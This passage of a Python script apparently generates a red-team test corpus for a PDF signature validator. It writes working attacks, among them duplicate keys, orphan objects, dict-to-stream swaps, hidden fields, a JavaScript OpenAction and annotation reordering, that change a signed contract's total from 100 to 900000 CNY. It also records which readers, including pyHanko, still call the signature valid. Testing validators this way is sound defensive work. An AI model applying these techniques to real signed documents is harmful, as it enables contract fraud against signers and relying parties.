         "(update_page_form_field_values, no appearance regeneration)",
         lambda d: pypdf_incremental(d, "fill"))
    both("pypdf_metadata", "valid", "",
         "legitimate: pypdf 7's incremental writer sets the document information /Title",
         lambda d: pypdf_incremental(d, "metadata"))

    p1 = certified[1]
    out += [
        Case("metadata_alias_p1.pdf", "metadata_alias_p1", "invalid", "page 1",
             "metadata_alias_content on the base certified by pyHanko with P=1 (no changes "
             "allowed but LTA updates)", attack_metadata_alias(p1, "content"), ["Certification"]),
        Case("info_alias_font_p1.pdf", "info_alias_font_p1", "invalid",
             "a resource (font, image or form) of page 1",
             "info_alias_font on the base certified by pyHanko with P=1",
             attack_info_alias(p1, "font"), ["Certification"]),
        Case("tail_no_eof_p1.pdf", "tail_no_eof_p1", "invalid", "not a complete revision",
             "tail_no_eof on the base certified by pyHanko with P=1: pyHanko calls the "
             "certification valid (modification level NONE)", attack_tail(p1, "no_eof"),
             ["Certification"], fooled=True),
    ]

    if args.inherited_approval:
        for tag, path in (("approval", args.inherited_approval),
                          ("certified", args.inherited_certified)):
            data = Path(path).read_bytes()
            sig = Pdf(data).sig_fields()[0][1].get("/T")
            kind = "approval" if tag == "approval" else "certification (DocMDP P=2)"
            out += [
                Case(f"inherited_{tag}.pdf", f"inherited_{tag}", "valid", "",
                     f"control: the inherited-resources base (make_corpus.py base-inherited: "
                     f"both pages inherit /Resources from the page tree) with catool's {kind} "
                     "signature, unchanged", data, [sig]),
                Case(f"inherited_font_replaced_{tag}.pdf", f"inherited_font_replaced_{tag}",
                     "invalid", "the pages inherit",
                     "the inherited-resources base signed by catool; the font the pages reach "
                     "only through the inherited /Resources (and the amount widget's appearance"
                     " through its own) redefined with /Differences [49 /nine]: '100' reads "
                     "'900' on the page, not as a form-field appearance change",
                     attack_shadow_replace(data), [sig]),
            ]
    return out


# ---------------------------------------------------------------------------------------
# Red team 2 (rt2_): duplicate keys, an unlisted object for readers that rebuild the xref,
# a dictionary turned into a stream, and attacks on prepared bases (make_corpus.py
# base-prepared, signed by catool).
# ---------------------------------------------------------------------------------------

DUPKEY_CLI = ("pyHanko's CLI reads with its strict reader, which refuses a dictionary naming a "
              "key twice ('Multiple definitions in dictionary ... for key'); pyhanko_verdict "
              "is its API's (non-strict reader) verdict")
BIG_AMOUNT_AP = (b"/Type /XObject /Subtype /Form /BBox [0 0 400 40] "
                 b"/Resources << /Font << /F1 6 0 R >> >>",
                 b"q 1 g 0 0 400 40 re f Q BT /F1 24 Tf 0 g 2 14 Td "
                 b"(Contract total: 900000 CNY) Tj ET")


def rt2_dupkey_field(data: bytes, junk: str, big_first: bool) -> bytes:
    """Field `amount` redefined (new /V, a new appearance painting 'Contract total: 900000 CNY')
    with /Rect named twice: a big one over the signed headline and the signed one; junk pads
    the dictionary past 32 entries (poppler then sorts it and binary-searches)."""
    pdf = Pdf(data)
    u = Update(pdf)
    num, f = pdf.field("amount")
    ap = u.new(stream_obj(*BIG_AMOUNT_AP))
    pad = {"none": b"",
           "many": b" ".join(b"/K%02d %d" % (i, i) for i in range(40)),
           "v35": b" ".join([b"/V (900000)"] * 35)}[junk]
    body = dict_with(f, {"/V": b"(900000)", "/AP": b"<< /N %d 0 R >>" % ap})
    big = b"/Rect [70 752 470 792]"
    if big_first:
        body = b"<< " + big + b" " + pad + b" " + body[3:]
    else:
        body = body[:-2] + b" " + pad + b" " + big + b" >>"
    u.redefine(num, body)
    return u.bytes()


def rt2_dupkey_catalog(data: bytes, nochange: bool) -> bytes:
    """Catalog redefined as << /Pages NEW ... 35 duplicates ... the signed entries >>: a reader
    keeping the last /Pages sees the signed page tree, poppler (sorted lookup) the new one whose
    page 1 shows the prepared shadow content."""
    pdf = Pdf(data)
    u = Update(pdf)
    content = u.new(stream_obj(b"", page_text(PAGE1_SHADOW_LINES)))
    p0, p1 = pdf.page(0), pdf.page(1)
    tree = u.next_num
    u.next_num += 1
    np = u.new(dict_with(p0, {"/Contents": b"%d 0 R" % content, "/Parent": b"%d 0 R" % tree,
                              "/Annots": None}))
    u.objs[tree] = b"<< /Type /Pages /Kids [%d 0 R %s] /Count 2 >>" % (
        np, ser(p1.indirect_reference))
    body = dict_with(pdf.root, {})
    if nochange:
        body = b"<< /Pages %d 0 R " % tree + b" ".join([b"/Type /Catalog"] * 35) + b" " + body[3:]
    else:
        body = (b"<< /Pages %d 0 R " % tree + b" ".join([b"/Version /1.7"] * 35) + b" "
                + body[3:-3] + b" /Version /1.7 >>")
    u.redefine(ref_num(pdf.root_ref), body)
    return u.bytes()


def rt2_dupkey_page(data: bytes) -> bytes:
    """Page 1 redefined as << /Contents 14 0 R (the prepared shadow) /Type /Page x35 ...the
    signed entries (the signed /Contents last) >>."""
    pdf = Pdf(data)
    u = Update(pdf)
    body = dict_with(pdf.page(0), {})
    u.redefine(pdf.page_num(0), b"<< /Contents 14 0 R " + b" ".join([b"/Type /Page"] * 35)
               + b" " + body[3:])
    return u.bytes()


def rt2_dict_as_stream(data: bytes, which: str) -> bytes:
    """A signed dictionary redefined with the same entries but followed by `stream ...
    endstream` (no /Length): a dictionary-only comparison sees no key changed; poppler refuses
    a page (or annotation) that is a stream."""
    pdf = Pdf(data)
    u = Update(pdf)
    if which == "page2":
        n, d = pdf.page_num(1), pdf.page(1)
    else:  # the white overlay hiding the late-fee clause on page 2
        d = pdf.page(1)["/Annots"][0].get_object()
        n = d.indirect_reference.idnum
    u.redefine(n, dict_with(d, {}) + b"\nstream\nq Q\nendstream")
    return u.bytes()


def rt2_reconstruct(data: bytes, xrefstm: bytes) -> bytes:
    """An allowed change (a new /Info) plus an orphan `N 0 obj` redefining page 1's content
    ('900000') that no xref lists, optionally with a trailer /XRefStm at a non-xref offset:
    a reader that rebuilds the table by scanning (poppler, on the bad /XRefStm) takes it."""
    pdf = Pdf(data)
    out = bytearray(data)
    if not out.endswith(b"\n"):
        out += b"\n"
    cnum = pdf.contents_num(0)
    out += (b"%d 0 obj\n" % cnum + stream_obj(b"", page_text(PAGE1_SHADOW_LINES))
            + b"\nendobj\n")
    info_num = pdf.size
    info_at = len(out)
    out += b"%d 0 obj\n<< /Title (updated) /Producer (x) >>\nendobj\n" % info_num
    xa = len(out)
    out += xref_section({info_num: (info_at, 0, "n")})
    t = b"trailer\n<< /Size %d /Root %s /Info %d 0 R" % (info_num + 1, ser(pdf.root_ref),
                                                         info_num)
    if pdf.ids is not None:
        t += b" /ID " + ser(pdf.ids)
    t += b" /Prev %d %s >>\n" % (pdf.prev_startxref, xrefstm)
    out += t + b"startxref\n%d\n%%%%EOF\n" % xa
    return bytes(out)


def rt2_cases(a: bytes, c: bytes, sig_a: str, sig_c: str, certified: dict[int, bytes],
              args) -> list[Case]:
    out: list[Case] = []

    def both(attack, expect, names, note, fn, p1=False, **kw):
        for tag, data, sig in (("approval", a, sig_a), ("certified", c, sig_c)):
            out.append(Case(f"rt2_{attack}_{tag}.pdf", f"rt2_{attack}_{tag}", expect, names,
                            note, fn(data), [sig], **kw))
        if p1:
            out.append(Case(f"rt2_{attack}_p1.pdf", f"rt2_{attack}_p1", expect, names,
                            note + " (on the base certified by pyHanko, P=1)",
                            fn(certified[1]), ["Certification"], **kw))

    twice = "twice in one dictionary"
    fld = ("field amount redefined (/V 900000, a new appearance painting 'Contract total: "
           "900000 CNY') with /Rect named twice, a big /Rect over the signed headline {where} "
           "and the signed /Rect {other}{pad}: readers disagree which /Rect counts")
    for junk, bf, name in (("none", True, "dupkey_few_bigfirst"),
                           ("none", False, "dupkey_few_biglast"),
                           ("many", True, "dupkey_many_bigfirst"),
                           ("many", False, "dupkey_many_biglast"),
                           ("v35", True, "dupkey_v35")):
        pad = {"none": "", "many": "; 40 junk keys /K00../K39 pad it past 32 entries "
               "(poppler sorts and binary-searches such dictionaries)",
               "v35": "; /V (900000) repeated 35 times pads it past 32 entries"}[junk]
        note = fld.format(where="first" if bf else "last", other="last" if bf else "first",
                          pad=pad)
        both(name, "invalid", twice, note,
             lambda d, junk=junk, bf=bf: rt2_dupkey_field(d, junk, bf), cli_refuses=DUPKEY_CLI,
             fooled=name == "dupkey_few_biglast")
    both("dupkey_catalog", "invalid", twice,
         "catalog redefined as << /Pages NEW /Version /1.7 x35 ...signed entries... /Version "
         "/1.7 >>: a reader keeping the last /Pages sees the signed tree and only a /Version "
         "update; poppler (sorted lookup) takes the new tree whose page 1 reads 'Contract "
         "total: 900000 CNY'", lambda d: rt2_dupkey_catalog(d, False), p1=True,
         cli_refuses=DUPKEY_CLI)
    both("dupkey_catalog_nochange", "invalid", twice,
         "as rt2_dupkey_catalog but padded with /Type /Catalog x35 and no /Version: a reader "
         "keeping the last value sees the signed catalog unchanged",
         lambda d: rt2_dupkey_catalog(d, True), p1=True, cli_refuses=DUPKEY_CLI)
    both("dupkey_page", "invalid", twice,
         "page 1 redefined as << /Contents 14 0 R (the prepared shadow) /Type /Page x35 "
         "...signed entries (signed /Contents last) >>: a reader keeping the last value sees "
         "page 1 unchanged; poppler and pypdf draw 'Contract total: 900000 CNY'",
         rt2_dupkey_page, p1=True, cli_refuses=DUPKEY_CLI)
    rec = ("an allowed change (a new /Info) plus an orphan redefinition of page 1's content "
           "('Contract total: 900000 CNY') that no xref section lists{x}: a reader that "
           "rebuilds the table by scanning the file takes the orphan")
    both("reconstruct_noxrefstm", "invalid", "without listing it", rec.format(x=""),
         lambda d: rt2_reconstruct(d, b""), p1=True, fooled=True)
    both("reconstruct_xrefstm9", "invalid", "without listing it",
         rec.format(x=", and a trailer /XRefStm 9 that leads to no cross-reference stream "
                    "(poppler then rebuilds the table)"),
         lambda d: rt2_reconstruct(d, b"/XRefStm 9"), p1=True)
    both("dict_as_stream_page2", "invalid", "into another kind of object",
         "page 2 redefined with its signed entries but followed by `stream q Q endstream` "
         "(no /Length): the dictionary is unchanged, the object is now a stream",
         lambda d: rt2_dict_as_stream(d, "page2"))
    both("dict_as_stream_overlay", "invalid", "into another kind of object",
         "the white overlay annotation on page 2 redefined with its signed entries but "
         "followed by `stream q Q endstream` (no /Length): poppler drops it, the late-fee "
         "clause under it shows", lambda d: rt2_dict_as_stream(d, "overlay"))
    return out


# Prepared bases (make_corpus.py base-prepared VARIANT OUT.pdf): small one-page (pt_*: two-page)
# documents with something an attack will abuse after signing. Object 15 is the trailer /Info.
PREPARED_VARIANTS = ["ia_oc", "ia_js", "ia_hidden_field", "pkey_metadata",
                     "pkey_parent_metadata", "pkey_fieldap", "pkey_info_gs", "pt_meta", "pt_ap",
                     "zorder"]
PREPARED_P1 = ["ia_oc", "ia_js", "pkey_info_gs", "zorder"]  # also certified by pyHanko, P=1
BIG_FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 400 40] /Resources << /Font << /F1 6 0 R >> >>"
AMOUNT_AP_DICT = (b"/Type /XObject /Subtype /Form /BBox [0 0 150 22] "
                  b"/Resources << /Font << /Helv 6 0 R >> >>")


def write_base(objs: dict[int, bytes], info: int) -> bytes:
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offs = {}
    for n in sorted(objs):
        offs[n] = len(out)
        out += b"%d 0 obj\n" % n + objs[n] + b"\nendobj\n"
    xa = len(out)
    e = {0: (0, 65535, "f")}
    e.update({n: (o, 0, "n") for n, o in offs.items()})
    out += xref_section(e)
    did = hashlib.md5(bytes(out)).hexdigest().encode()
    out += (b"trailer\n<< /Size %d /Root 1 0 R /Info %d 0 R /ID [<%s> <%s>] >>\nstartxref\n"
            b"%d\n%%%%EOF\n" % (max(objs) + 1, info, did, did, xa))
    return bytes(out)


def prepared_base(variant: str) -> bytes:
    if variant not in PREPARED_VARIANTS:
        raise SystemExit(f"unknown variant {variant}: one of {', '.join(PREPARED_VARIANTS)}")
    objs = {
        1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 3 0 R >>",
        2: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        3: b"<< /Fields [10 0 R] /DA (/Helv 0 Tf 0 g) /DR << /Font << /Helv 6 0 R >> >> >>",
        4: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources 7 0 R "
           b"/Contents 8 0 R /Annots [10 0 R] >>",
        6: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        7: b"<< /Font << /F1 6 0 R >> >>",
        8: stream_obj(b"", page_text(PAGE1_LINES)),
        10: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /V (100) "
            b"/DA (/Helv 12 Tf 0 g) /Rect [170 694 320 716] /P 4 0 R /F 4 /AP << /N 11 0 R >> >>",
        11: stream_obj(AMOUNT_AP_DICT, WIDGET_AP),
        15: b"<< /Producer (x) /Title (base) >>",
    }
    form = stream_obj(BIG_FORM, b"BT /F1 24 Tf 0 g 0 10 Td (Contract total: 100 CNY) Tj ET")
    amount_line = b"BT /F1 12 Tf 0 g 72 700 Td (Amount \\(CNY\\):) Tj ET"
    if variant == "ia_oc":
        objs[1] = (b"<< /Type /Catalog /Pages 2 0 R /AcroForm 3 0 R "
                   b"/OCProperties << /OCGs [20 0 R] /D 15 0 R >> >>")
        objs[20] = b"<< /Type /OCG /Name (Total) >>"
        objs[7] = b"<< /Font << /F1 6 0 R >> /Properties << /oc1 20 0 R >> >>"
        objs[8] = stream_obj(b"", b"/OC /oc1 BDC\n" + page_text(PAGE1_LINES[:1]) + b"\nEMC\n"
                             + page_text(PAGE1_LINES[1:]))
        objs[15] = b"<< /Producer (x) /Title (base) /ON [20 0 R] >>"
    elif variant == "ia_js":
        objs[1] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm 3 0 R /OpenAction 15 0 R >>"
    elif variant == "ia_hidden_field":
        objs[3] = objs[3].replace(b"[10 0 R]", b"[10 0 R 12 0 R]")
        objs[4] = objs[4].replace(b"[10 0 R]", b"[10 0 R 12 0 R]")
        objs[12] = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (note) /Ff 1 "
                    b"/Rect [70 752 470 792] /P 4 0 R /F 2 /AP << /N 13 0 R >> >>")
        objs[13] = stream_obj(*BIG_AMOUNT_AP)
    elif variant in ("pkey_metadata", "pkey_parent_metadata"):
        name = b"/P" if variant == "pkey_metadata" else b"/Parent"
        objs[1] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm 3 0 R /Metadata 16 0 R >>"
        objs[16] = form.replace(b"/Type /XObject", b"/Type /Metadata")
        objs[7] = b"<< /Font << /F1 6 0 R >> /XObject << " + name + b" 16 0 R >> >>"
        objs[8] = stream_obj(b"", b"q 1 0 0 1 72 740 cm " + name + b" Do Q\n" + amount_line)
    elif variant == "pkey_fieldap":
        objs[8] = stream_obj(b"", b"BT /F1 24 Tf 0 g 72 760 Td (Contract total: ) Tj ET "
                             b"q 2 0 0 2 250 748 cm /P Do Q\n" + amount_line)
        objs[7] = b"<< /Font << /F1 6 0 R >> /XObject << /P 11 0 R >> >>"
    elif variant == "pkey_info_gs":
        objs[8] = stream_obj(b"", b"q /P gs BT /F1 24 Tf 0 g 72 760 Td (Contract total: 100 CNY)"
                             b" Tj ET Q\n" + amount_line)
        objs[7] = b"<< /Font << /F1 6 0 R >> /ExtGState << /P 15 0 R >> >>"
    elif variant in ("pt_meta", "pt_ap"):
        objs[1] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm 3 0 R /Metadata 16 0 R >>"
        objs[2] = b"<< /Type /Pages /Kids [4 0 R 5 0 R] /Count 2 >>"
        objs[4] = (b"<< /Parent 2 0 R /MediaBox [0 0 595 842] /Resources 7 0 R "
                   b"/Contents 16 0 R >>")
        objs[5] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources 7 0 R "
                   b"/Contents 9 0 R /Annots [10 0 R] >>")
        objs[7] = b"<< /Font << /F1 6 0 R /Helv 6 0 R >> >>"
        del objs[8]
        objs[9] = stream_obj(b"", page_text([(24, 72, 760, "Page 2")]))
        objs[10] = objs[10].replace(b"/P 4 0 R", b"/P 5 0 R")
        objs[16] = stream_obj(b"/Type /Metadata", page_text(PAGE1_LINES))
        if variant == "pt_ap":
            objs[1] = b"<< /Type /Catalog /Pages 2 0 R /AcroForm 3 0 R >>"
            objs[4] = objs[4].replace(b"16 0 R", b"11 0 R")
            objs[11] = stream_obj(AMOUNT_AP_DICT.replace(b"6 0 R", b"6 0 R /F1 6 0 R"),
                                  WIDGET_AP + b"\n" + page_text(PAGE1_LINES))
            del objs[16]
    elif variant == "zorder":
        def ap(t):
            return stream_obj(BIG_FORM, b"q 1 g 0 0 400 40 re f Q BT /F1 24 Tf 0 g 2 14 Td "
                              + pdf_string(t) + b" Tj ET")
        objs[4] = objs[4].replace(b"[10 0 R]", b"[10 0 R 20 0 R 21 0 R]")
        objs[8] = stream_obj(b"", page_text(PAGE1_LINES[1:]))
        sq = (b"<< /Type /Annot /Subtype /Square /Rect [70 752 470 792] /F 4 /P 4 0 R "
              b"/AP << /N %d 0 R >> >>")
        objs[20], objs[21] = sq % 22, sq % 23
        objs[22], objs[23] = ap("Contract total: 900000 CNY"), ap("Contract total: 100 CNY")
    return write_base(objs, info=15)


def prepared_attack(variant: str, data: bytes) -> bytes:
    pdf = Pdf(data)
    u = Update(pdf)
    big_new = stream_obj(BIG_FORM, b"BT /F1 24 Tf 0 g 0 10 Td (Contract total: 900000 CNY) Tj ET")
    if variant == "ia_oc":
        u.redefine(15, b"<< /Producer (x) /Title (base) /OFF [20 0 R] >>")
    elif variant == "ia_js":
        u.redefine(15, b"<< /Producer (x) /Title (base) /S /JavaScript "
                   b"/JS (app.alert\\('Contract total: 900000 CNY'\\);) >>")
    elif variant == "ia_hidden_field":
        u.redefine(12, dict_with(pdf.obj(12), {"/F": b"4"}))
    elif variant in ("pkey_metadata", "pkey_parent_metadata"):
        u.redefine(16, big_new.replace(b"/Type /XObject", b"/Type /Metadata"))
    elif variant == "pkey_fieldap":
        u.redefine(11, stream_obj(AMOUNT_AP_DICT,
                                  WIDGET_AP.replace(b"(100)", b"(900000)")))
        u.redefine(10, dict_with(pdf.obj(10), {"/V": b"(900000)"}))
    elif variant == "pkey_info_gs":
        u.redefine(15, b"<< /Producer (x) /Title (base) /ca 0 /CA 0 >>")
    elif variant == "pt_meta":
        u.redefine(16, stream_obj(b"/Type /Metadata", page_text(PAGE1_SHADOW_LINES)))
    elif variant == "pt_ap":
        u.redefine(11, stream_obj(AMOUNT_AP_DICT.replace(b"6 0 R", b"6 0 R /F1 6 0 R"),
                                  WIDGET_AP + b"\n" + page_text(PAGE1_SHADOW_LINES)))
    elif variant == "zorder":
        arr = [ser(x) for x in pdf.page(0).raw_get("/Annots")]
        i, j = arr.index(b"20 0 R"), arr.index(b"21 0 R")
        arr[i], arr[j] = arr[j], arr[i]
        u.redefine(pdf.page_num(0), dict_with(pdf.page(0),
                                              {"/Annots": b"[" + b" ".join(arr) + b"]"}))
    return u.bytes()


PREPARED_NOTES = {
    "ia_oc": ("prepared base: the trailer /Info dictionary is also the catalog's /OCProperties "
              "/D (default optional-content configuration, /ON [ocg]); page 1's headline is "
              "inside that optional content. The update only rewrites /Info with /OFF [ocg]: "
              "the signed headline is hidden", "/ocproperties"),
    "ia_js": ("prepared base: the trailer /Info dictionary is also the catalog's /OpenAction "
              "(no /S when signed). The update only rewrites /Info with /S /JavaScript /JS "
              "(an alert 'Contract total: 900000 CNY')", "/openaction"),
    "ia_hidden_field": ("prepared base: a hidden (/F 2) read-only text field `note` whose "
                        "appearance paints 'Contract total: 900000 CNY' over the headline. "
                        "The update flips its /F to 4 (print, visible)", "field note"),
    "pkey_metadata": ("prepared base: the catalog's /Metadata stream is also a form XObject "
                      "page 1 draws under resource name /P (the headline 'Contract total: 100 "
                      "CNY'). The update rewrites that 'metadata' to read 900000",
                      "a resource (font, image or form) of page 1"),
    "pkey_parent_metadata": ("as rt2_pkey_metadata but the resource is named /Parent",
                             "a resource (font, image or form) of page 1"),
    "pkey_fieldap": ("prepared base: page 1 also draws the amount widget's appearance (under "
                     "resource name /P, scaled 2x) as the headline's number. The update is a "
                     "form fill: /V 900000 and a new appearance in the same object, so the "
                     "page's headline reads 900000", "a resource (font, image or form) of page 1"),
    "pkey_info_gs": ("prepared base: the trailer /Info dictionary is also the ExtGState page 1 "
                     "uses (resource name /P) for its headline. The update only rewrites /Info "
                     "with /ca 0 /CA 0: the headline becomes transparent",
                     "a resource (font, image or form) of page 1"),
    "pt_meta": ("prepared base: page 1 has no /Type (readers treat a kid without /Kids as a "
                "page) and its content stream is also the catalog's /Metadata. The update "
                "rewrites that 'metadata': page 1 reads 'Contract total: 900000 CNY'",
                "replaces the content of page 1"),
    "pt_ap": ("prepared base: page 1 has no /Type and its content stream is also the amount "
              "widget's appearance (on page 2). The update rewrites that appearance: page 1 "
              "reads 'Contract total: 900000 CNY'", "replaces the content of page 1"),
    "zorder": ("prepared base: two opaque /Square annotations on the same /Rect over page 1's "
               "headline, the one on top says 'Contract total: 100 CNY', the one under it "
               "'Contract total: 900000 CNY'. The update swaps them in page 1's /Annots",
               "reorders or repeats the annotations of page 1"),
}


def prepared_cases(prep_dir: Path, args, password: bytes) -> list[Case]:
    out: list[Case] = []
    for v in PREPARED_VARIANTS:
        note, names = PREPARED_NOTES[v]
        for tag, suffix in (("approval", "A"), ("certified", "C")):
            path = prep_dir / f"prepared_{v}_{suffix}.pdf"
            if not path.exists():
                raise SystemExit(f"--prepared-dir: {path} is missing (make_corpus.py "
                                 f"base-prepared {v} ..., signed by catool)")
            data = path.read_bytes()
            sig = Pdf(data).sig_fields()[0][1].get("/T")
            out.append(Case(f"rt2_{v}_{tag}_signed.pdf", f"rt2_{v}_{tag}_signed", "valid", "",
                            f"control: the prepared base {v} (make_corpus.py base-prepared {v})"
                            f" signed by catool, unchanged", data, [sig]))
            out.append(Case(f"rt2_{v}_{tag}.pdf", f"rt2_{v}_{tag}", "invalid", names,
                            note + f" (signed by catool: {tag})", prepared_attack(v, data),
                            [sig], fooled=v == "ia_hidden_field"))
        if v in PREPARED_P1:
            p1 = pyhanko_sign(prepared_base(v), Path(args.p12), password, "Certification",
                              certify=True, perm=_mdp_perm(1))
            out.append(Case(f"rt2_{v}_p1.pdf", f"rt2_{v}_p1", "invalid", names,
                            note + " (the prepared base certified by pyHanko, P=1)",
                            prepared_attack(v, p1), ["Certification"]))
    return out


def _mdp_perm(p: int):
    from pyhanko.sign.fields import MDPPerm
    return MDPPerm(p)


def write_ca_from_p12(p12: Path, password_file: Path, out: Path) -> Path:
    """The trust root when --ca is not given: the self-signed certificate the PKCS#12 carries
    (catool puts the issuing CA in it), written to OUT/ca.pem."""
    from cryptography.hazmat.primitives import serialization

    _, cert, extra, _ = load_p12(p12, password_file)
    roots = [c for c in extra + [cert] if c.subject == c.issuer]
    if not roots:
        raise SystemExit(f"{p12} holds no self-signed CA certificate: pass --ca CA.pem")
    path = out / "ca.pem"
    path.write_bytes(roots[0].public_bytes(serialization.Encoding.PEM))
    return path


def pyhanko_says(lines: list[dict], fields: list[str]) -> str:
    by_field = {l["field"]: l for l in lines}
    got = [by_field.get(f, {}).get("bottom_line", False) for f in fields]
    if all(got):
        return "valid"
    if not any(got):
        return "invalid"
    return "mixed"


def cmd_attacks(args) -> int:
    import logging

    # pyHanko logs every refused update as a WARNING with a traceback: the verdicts say it.
    logging.disable(logging.CRITICAL)
    out = Path(args.out)
    out.mkdir(parents=True, exist_ok=True)
    if not args.ca:
        args.ca = str(write_ca_from_p12(Path(args.p12), Path(args.p12_password_file), out))
    cases = build_cases(args)
    from click.testing import CliRunner
    from pyhanko.cli import cli_root
    runner = CliRunner()
    disagreements = []
    notices = []
    sys.path.insert(0, str(HERE))
    sys.dont_write_bytecode = True  # no __pycache__ in the source tree
    import pyhanko_verdict
    for case in cases:
        path = out / case.file
        path.write_bytes(case.data)
        case.pyhanko = pyhanko_verdict.verdicts(str(path), args.ca)
        case.cli_exit = runner.invoke(
            cli_root,
            ["sign", "validate", "--no-revocation-check", "--trust-replace", "--trust",
             str(args.ca), str(path)],
        ).exit_code
        said = pyhanko_says(case.pyhanko, case.judged)
        case.pyhanko_verdict = said
        if case.expect == PYHANKO:
            case.expect = said
            case.note += f"; expect is pyHanko's verdict ({said}): catool follows pyHanko here"
        case.pyhanko_fooled = case.expect == "invalid" and said == "valid"
        if case.pyhanko_fooled != case.fooled:
            notices.append(f"{case.file}: the red team found pyHanko "
                           f"{'fooled' if case.fooled else 'not fooled'}, now it says {said}")
        if case.pyhanko_fooled:
            case.note += "; pyHanko is fooled: it says valid although the document changed"
        if said == case.expect or case.pyhanko_fooled:
            if case.differs:
                notices.append(f"{case.file}: pyHanko no longer differs ({case.differs})")
            case.differs = None
        elif case.differs:
            case.note += f"; pyHanko says {said}: {case.differs}"
        else:
            msg = f"{case.file}: the brief expects {case.expect}, pyHanko says {said}"
            disagreements.append(msg)
            case.note += f"; DISAGREEMENT: {msg}"
    manifest = [
        {
            "file": c.file,
            "attack": c.attack,
            "expect": c.expect,
            "names": c.names,
            "note": c.note,
            "signatures": c.judged,
            "pyhanko_verdict": c.pyhanko_verdict,
            "pyhanko_fooled": c.pyhanko_fooled,
            **({"pyhanko_differs": c.differs} if c.differs else {}),
            **({"pyhanko_cli_refuses": c.cli_refuses} if c.cli_refuses else {}),
            "pyhanko": c.pyhanko,
            "pyhanko_cli_exit": c.cli_exit,
        }
        for c in cases
    ]
    (out / "manifest.json").write_text(json.dumps(manifest, indent=2, ensure_ascii=False) + "\n")
    for c in cases:
        bl = ",".join(f"{l['field']}={'valid' if l['bottom_line'] else 'INVALID'}" for l in c.pyhanko)
        print(f"{c.file:40} expect {c.expect:8} pyHanko {bl}"
              + ("  (pyHanko fooled)" if c.pyhanko_fooled else ""))
    for n in notices:
        print("NOTE:", n, file=sys.stderr)
    for d in disagreements:
        print("DISAGREEMENT:", d, file=sys.stderr)
    print(f"{len(cases)} files and manifest.json in {out}")
    return 0


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    b = sub.add_parser("base", help="write the unsigned base PDF")
    b.add_argument("out")
    bi = sub.add_parser("base-inherited", help="write the unsigned base PDF whose pages inherit "
                        "/Resources from the page tree node")
    bi.add_argument("out")
    t = sub.add_parser("attacks", help="write the attack corpus + manifest.json")
    t.add_argument("--approval", required=True, help="the base signed once by catool")
    t.add_argument("--certified", required=True, help="the base certified by catool (P=2)")
    t.add_argument("--p12", required=True, help="PKCS#12 with the signer's key + certificate")
    t.add_argument("--p12-password-file", required=True)
    t.add_argument("--out", required=True)
    t.add_argument("--ca", help="CA certificate (PEM) pyHanko trusts for the verdicts in the "
                   "manifest [default: the self-signed certificate in the PKCS#12, written to "
                   "DIR/ca.pem]")
    t.add_argument("--inherited-approval", help="the base-inherited PDF signed once by catool "
                   "(adds the inherited-resources cases; needs --inherited-certified)")
    t.add_argument("--inherited-certified", help="the base-inherited PDF certified by catool (P=2)")
    t.add_argument("--prepared-dir", help="directory holding prepared_VARIANT_A.pdf (approval) "
                   "and prepared_VARIANT_C.pdf (certification, P=2), each variant's "
                   "base-prepared document signed by catool (adds the rt2_ prepared cases)")
    bp = sub.add_parser("base-prepared", help="write one unsigned prepared base (variants: "
                        + ", ".join(PREPARED_VARIANTS) + ")")
    bp.add_argument("variant", choices=PREPARED_VARIANTS)
    bp.add_argument("out")
    args = ap.parse_args()
    if args.cmd == "base-prepared":
        Path(args.out).write_bytes(prepared_base(args.variant))
        return 0
    if args.cmd in ("base", "base-inherited"):
        Path(args.out).write_bytes(base_pdf(inherited=args.cmd == "base-inherited"))
        return 0
    if bool(args.inherited_approval) != bool(args.inherited_certified):
        ap.error("--inherited-approval and --inherited-certified go together")
    return cmd_attacks(args)


if __name__ == "__main__":
    sys.exit(main())
